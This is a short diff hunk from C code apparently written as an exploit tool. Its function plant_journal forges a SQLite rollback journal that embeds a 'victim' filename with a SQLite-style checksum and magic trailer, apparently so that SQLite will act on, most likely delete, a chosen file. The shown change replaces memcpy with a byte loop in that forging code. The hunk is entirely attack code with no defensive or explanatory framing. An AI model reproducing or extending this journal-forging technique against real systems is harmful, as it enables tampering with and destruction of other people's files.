@@ -90,9 +90,10 @@ static void plant_journal(const char *path, long pages, const char *victim) {
     put32(header + 20, sizeof header);
     put32(header + 24, 4096);
     put32(name, 0x40000000 / 4096 + 1);
-    memcpy(name + 4, victim, length);
-    for (size_t i = 0; i < length; i++)
+    for (size_t i = 0; i < length; i++) {
+        name[4 + i] = (unsigned char)victim[i];
         sum += (unsigned long)(long)victim[i]; // as SQLite adds up its chars
+    }
     put32(name + 4 + length, length);
     put32(name + 8 + length, sum);
     memcpy(name + 12 + length, MAGIC, sizeof MAGIC);
